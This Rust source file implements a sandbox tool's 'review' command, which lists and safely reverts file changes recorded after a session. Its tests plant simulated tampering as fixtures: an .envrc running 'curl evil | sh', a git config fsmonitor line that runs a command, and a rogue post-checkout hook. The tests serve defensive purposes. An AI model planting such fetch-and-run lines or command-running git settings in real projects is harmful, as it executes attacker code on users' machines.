//! `claude-sandbox review` lists the recorded changes not reverted yet;
//! `review --revert` puts each path back where it still holds exactly what
//! the session left (newest session first), and marks it reverted in the log.

use std::ffi::OsString;
use std::io::Write;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{DirBuilderExt, PermissionsExt};
use std::path::{Path, PathBuf};

use serde_json::Value;

use super::compare::{fingerprint, shown, Change, Item, Old, UNREAD};
use super::log::{change_line, log_dir, session_bytes, write_atomic, Session};
use super::scan::{read_entry, Entry, SETTINGS_MAX};
use super::settings::{keys_fingerprint, projection};
use crate::sys::paths;

/// `claude-sandbox review [--revert]` for the calling user.
pub(crate) fn review_main(revert: bool) -> anyhow::Result<i32> {
    let home = crate::sys::user::identity()
        .map_err(crate::error::bad_input)?
        .home;
    Ok(review(
        &home,
        revert,
        &mut std::io::stdout(),
        &mut std::io::stderr(),
    ))
}

/// List (or with `revert`, undo) the changes recorded under `home` and not
/// reverted yet. Returns the exit status: 0 nothing left, 1 something left
/// (changes listed, or paths the revert refused).
fn review(home: &Path, revert: bool, out: &mut dyn Write, err: &mut dyn Write) -> i32 {
    let sessions = sessions(home, err);
    if revert {
        revert_all(sessions, out, err)
    } else {
        list(&sessions, out)
    }
}

/// The recorded sessions, oldest first, each with its file.
fn sessions(home: &Path, err: &mut dyn Write) -> Vec<(PathBuf, Session)> {
    let Ok(rd) = std::fs::read_dir(log_dir(home)) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for e in rd.flatten() {
        let p = e.path();
        let name = e.file_name();
        if name.as_bytes().starts_with(b".") || p.extension().is_none_or(|x| x != "json") {
            continue;
        }
        let read = std::fs::read(&p)
            .map_err(|e| e.to_string())
            .and_then(|b| serde_json::from_slice::<Session>(&b).map_err(|e| e.to_string()));
        match read {
            Ok(s) => out.push((p, s)),
            Err(e) => {
                let _ = writeln!(err, "claude-sandbox: skipping {}: {e}", p.display());
            }
        }
    }
    out.sort_by(|a, b| (a.1.ended, &a.0).cmp(&(b.1.ended, &b.0)));
    out
}

fn list(sessions: &[(PathBuf, Session)], out: &mut dyn Write) -> i32 {
    let mut any = false;
    for (_, s) in sessions {
        let open: Vec<&Change> = s
            .changes
            .iter()
            .filter(|c| c.items.iter().any(|i| !i.reverted))
            .collect();
        if open.is_empty() {
            continue;
        }
        any = true;
        let _ = writeln!(
            out,
            "Session ended {} in {}:",
            crate::sys::clock::utc(s.ended),
            shown(&s.workspace.to_string_lossy())
        );
        for c in open {
            let _ = out.write_all(change_line(c).as_bytes());
        }
    }
    if !any {
        let _ = writeln!(out, "claude-sandbox: no recorded change to review");
        return 0;
    }
    let _ = writeln!(out, "Undo with: {} review --revert", paths::SELF_BIN);
    1
}

/// Undo every recorded change, newest session first (so a path changed by
/// two sessions goes back step by step); each session's file is rewritten
/// with what was reverted.
fn revert_all(
    mut sessions: Vec<(PathBuf, Session)>,
    out: &mut dyn Write,
    err: &mut dyn Write,
) -> i32 {
    let (mut done, mut left) = (0usize, 0usize);
    for (file, s) in sessions.iter_mut().rev() {
        let mut touched = false;
        for (ci, ii) in revert_order(&s.changes) {
            let item = &mut s.changes[ci].items[ii];
            if item.reverted {
                continue;
            }
            let name = shown(&item.path.to_string_lossy());
            match revert_item(item) {
                Ok(()) => {
                    item.reverted = true;
                    touched = true;
                    done += 1;
                    let _ = writeln!(out, "reverted {name}");
                }
                Err(why) => {
                    left += 1;
                    let _ = writeln!(err, "claude-sandbox: not reverted: {name}: {why}");
                }
            }
        }
        if !touched {
            continue;
        }
        if let Err(e) = session_bytes(s).and_then(|b| write_atomic(file, &b, 0o600)) {
            left += 1;
            let _ = writeln!(
                err,
                "claude-sandbox: could not update {}: {e}",
                file.display()
            );
        }
    }
    if done + left == 0 {
        let _ = writeln!(out, "claude-sandbox: nothing to revert");
    }
    i32::from(left > 0)
}

/// The order items are undone in: removed directories recreated (parents
/// first), then files, then created directories removed (children first).
fn revert_order(changes: &[Change]) -> Vec<(usize, usize)> {
    let mut all: Vec<(usize, usize)> = changes
        .iter()
        .enumerate()
        .flat_map(|(ci, c)| (0..c.items.len()).map(move |ii| (ci, ii)))
        .collect();
    let group = |&(ci, ii): &(usize, usize)| {
        let it: &Item = &changes[ci].items[ii];
        match (&it.old, it.new.as_deref()) {
            (Old::Dir { .. }, _) => 0,
            (Old::Absent, Some("dir")) => 2,
            _ => 1,
        }
    };
    all.sort_by(|a, b| {
        let (pa, pb) = (&changes[a.0].items[a.1].path, &changes[b.0].items[b.1].path);
        group(a).cmp(&group(b)).then_with(|| match group(a) {
            0 => pa.cmp(pb),
            _ => pb.cmp(pa),
        })
    });
    all
}

/// Put one path back, if it still holds exactly what the session left.
fn revert_item(it: &Item) -> Result<(), String> {
    if it.new.as_deref() == Some(UNREAD) {
        return Err("what the session left was not read (too large, or not a regular file)".into());
    }
    if it.old == Old::Unknown {
        return Err("what was there before the session was not kept".into());
    }
    if current(&it.path, &it.old)? != it.new {
        return Err("it changed since the session ended; check it by hand".into());
    }
    let io = |e: std::io::Error| e.to_string();
    match &it.old {
        Old::Keys { existed, values } => revert_keys(&it.path, *existed, values),
        Old::Absent => remove(&it.path),
        Old::File { mode, content } => {
            remove_dir_at(&it.path)?;
            write_atomic(&it.path, content, *mode).map_err(io)
        }
        Old::Link { target } => {
            remove_dir_at(&it.path)?;
            symlink_atomic(target, &it.path).map_err(io)
        }
        Old::Dir { mode } => {
            if entry_at(&it.path)?.is_some() {
                std::fs::remove_file(&it.path).map_err(io)?;
            }
            std::fs::DirBuilder::new()
                .mode(*mode)
                .create(&it.path)
                .map_err(io)?;
            std::fs::set_permissions(&it.path, std::fs::Permissions::from_mode(*mode)).map_err(io)
        }
        Old::Unknown => Err("what was there before the session was not kept".into()),
    }
}

/// What is at `path` now, read as a revert compares it.
fn entry_at(path: &Path) -> Result<Option<Entry>, String> {
    match std::fs::symlink_metadata(path) {
        Ok(m) => Ok(Some(read_entry(path, &m, None, &mut { SETTINGS_MAX }))),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(None),
        Err(e) => Err(e.to_string()),
    }
}

/// The fingerprint of what is at `path` now, comparable to [`Item::new`].
fn current(path: &Path, old: &Old) -> Result<Option<String>, String> {
    let e = entry_at(path)?;
    match old {
        Old::Keys { values, .. } => {
            let p = projection(e.as_ref(), true)?;
            let keys: Vec<Vec<String>> = values.iter().map(|(k, _)| k.clone()).collect();
            Ok(Some(keys_fingerprint(&p, &keys)))
        }
        _ => Ok(e.map(|e| fingerprint(&e))),
    }
}

/// Remove what the session added: a file or link, or an empty directory.
fn remove(path: &Path) -> Result<(), String> {
    let is_dir = std::fs::symlink_metadata(path).is_ok_and(|m| m.is_dir());
    let r = if is_dir {
        std::fs::remove_dir(path)
    } else {
        std::fs::remove_file(path)
    };
    r.map_err(|e| match e.raw_os_error() {
        Some(nix::libc::ENOTEMPTY) => {
            "the directory holds files the session did not add; left in place".into()
        }
        _ => e.to_string(),
    })
}

/// Make room for a file where the session left an (empty) directory.
fn remove_dir_at(path: &Path) -> Result<(), String> {
    match std::fs::symlink_metadata(path) {
        Ok(m) if m.is_dir() => remove(path),
        _ => Ok(()),
    }
}

fn symlink_atomic(target: &Path, path: &Path) -> std::io::Result<()> {
    let mut tmp_name = OsString::from(".");
    tmp_name.push(path.file_name().unwrap_or_default());
    tmp_name.push(format!(".csb-{}.tmp", std::process::id()));
    let tmp = path.with_file_name(tmp_name);
    std::os::unix::fs::symlink(target, &tmp)?;
    std::fs::rename(&tmp, path).inspect_err(|_| {
        let _ = std::fs::remove_file(&tmp);
    })
}

/// Put the old values of settings keys back, leaving every other key as it
/// is now; a file the session created is removed once nothing is left in it.
fn revert_keys(
    path: &Path,
    existed: bool,
    values: &[(Vec<String>, Option<Value>)],
) -> Result<(), String> {
    let (mut v, mode) = match entry_at(path)? {
        None => (Value::Object(Default::default()), 0o600),
        Some(Entry::File {
            meta,
            content: Some(c),
        }) => (
            serde_json::from_slice(&c).map_err(|e| format!("not JSON: {e}"))?,
            meta.mode & 0o7777,
        ),
        Some(_) => return Err("not a regular file".into()),
    };
    let obj = v.as_object_mut().ok_or("not a JSON object")?;
    for (k, old) in values {
        set_key(obj, k, old.clone());
    }
    if !existed && obj.is_empty() {
        return remove(path);
    }
    let mut text = serde_json::to_vec_pretty(&v).map_err(|e| e.to_string())?;
    text.push(b'\n');
    write_atomic(path, &text, mode).map_err(|e| e.to_string())
}

/// Set (or with `None` remove) the value at a path of object keys.
fn set_key(obj: &mut serde_json::Map<String, Value>, key: &[String], value: Option<Value>) {
    match (key, value) {
        ([], _) => {}
        ([last], Some(v)) => {
            obj.insert(last.clone(), v);
        }
        ([last], None) => {
            obj.shift_remove(last);
        }
        ([first, rest @ ..], value) => {
            if value.is_none() && !obj.contains_key(first) {
                return;
            }
            let child = obj
                .entry(first.clone())
                .or_insert_with(|| Value::Object(Default::default()));
            if !child.is_object() && value.is_some() {
                *child = Value::Object(Default::default());
            }
            if let Some(m) = child.as_object_mut() {
                set_key(m, rest, value);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::fixtures::{world, write, CFG};
    use super::super::log::record;
    use super::super::watch::Watch;
    use super::*;
    use crate::plan::protect;

    fn review_text(home: &Path, revert: bool) -> (i32, String, String) {
        let (mut out, mut err) = (Vec::new(), Vec::new());
        let code = review(home, revert, &mut out, &mut err);
        (
            code,
            String::from_utf8(out).unwrap(),
            String::from_utf8(err).unwrap(),
        )
    }

    #[test]
    fn review_lists_and_revert_undoes_unless_changed_since() {
        let (base, home, ws) = world("revert");
        std::fs::set_permissions(ws.join(".envrc"), std::fs::Permissions::from_mode(0o640))
            .unwrap();
        let w = Watch::start(&home, &ws, protect::discover(&ws));
        write(&ws.join("sub/.git/HEAD"), "ref: refs/heads/main\n");
        write(
            &ws.join("sub/.git/config"),
            &format!("{CFG}\tfsmonitor = touch MARK\n"),
        );
        write(&ws.join(".vscode/sub/tasks.json"), "{}");
        write(&ws.join(".envrc"), "curl evil | sh\n");
        std::fs::remove_file(ws.join(".mcp.json")).unwrap();
        write(&ws.join(".git/hooks/post-checkout"), "evil");
        write(
            &home.join(".claude/settings.json"),
            r#"{"model":"y","hooks":{"Stop":[{"hooks":[]}]}}"#,
        );
        let changes = w.changes();
        let session = Session {
            version: 1,
            started: 0,
            ended: 0,
            workspace: ws.clone(),
            changes,
        };
        record(&home, &session).unwrap();
        let (code, out, _) = review_text(&home, false);
        assert_eq!(code, 1, "changes left to review");
        assert!(out.contains("core.fsmonitor = touch MARK"), "{out}");
        assert!(out.contains("hooks.Stop added"), "{out}");
        // Changed again after the session: that path is left, with one line.
        write(&ws.join(".git/hooks/post-checkout"), "edited by the user");
        let (code, out, err) = review_text(&home, true);
        assert_eq!(code, 1, "{out}{err}");
        assert_eq!(err.lines().count(), 1, "{err}");
        assert!(
            err.contains(".git/hooks/post-checkout: it changed since the session ended"),
            "{err}"
        );
        assert!(!ws.join("sub/.git/config").exists());
        assert!(
            ws.join("sub/.git/HEAD").exists(),
            "only the config was recorded"
        );
        assert!(!ws.join(".vscode").exists(), "the new directory is gone");
        assert_eq!(
            std::fs::read_to_string(ws.join(".envrc")).unwrap(),
            "export A=1\n"
        );
        let mode = std::fs::metadata(ws.join(".envrc"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o640, "the old mode is back");
        assert_eq!(
            std::fs::read_to_string(ws.join(".mcp.json")).unwrap(),
            "{}\n"
        );
        let settings = std::fs::read_to_string(home.join(".claude/settings.json")).unwrap();
        let v: Value = serde_json::from_str(&settings).unwrap();
        assert_eq!(
            v,
            serde_json::json!({"model": "y"}),
            "only the hooks key went back"
        );
        // What is left is listed; once it holds what the session left, it goes too.
        let (code, out, _) = review_text(&home, false);
        assert_eq!(code, 1);
        assert_eq!(
            out.lines().filter(|l| l.starts_with("  ")).count(),
            1,
            "{out}"
        );
        write(&ws.join(".git/hooks/post-checkout"), "evil");
        assert_eq!(review_text(&home, true).0, 0);
        assert!(!ws.join(".git/hooks/post-checkout").exists());
        let (code, out, _) = review_text(&home, false);
        assert_eq!(
            (code, out.trim()),
            (0, "claude-sandbox: no recorded change to review")
        );
        let (code, out, _) = review_text(&home, true);
        assert_eq!((code, out.trim()), (0, "claude-sandbox: nothing to revert"));
        std::fs::remove_dir_all(&base).unwrap();
    }

    #[test]
    fn a_settings_file_the_session_created_goes_when_emptied() {
        let (base, home, ws) = world("settings-new");
        let w = Watch::start(&home, &ws, protect::discover(&ws));
        write(
            &ws.join(".claude/settings.local.json"),
            r#"{"env":{"X":"1"}}"#,
        );
        let session = Session {
            version: 1,
            started: 0,
            ended: 0,
            workspace: ws.clone(),
            changes: w.changes(),
        };
        assert_eq!(session.changes.len(), 1);
        record(&home, &session).unwrap();
        assert_eq!(review_text(&home, true).0, 0);
        assert!(!ws.join(".claude/settings.local.json").exists());
        std::fs::remove_dir_all(&base).unwrap();
    }
}
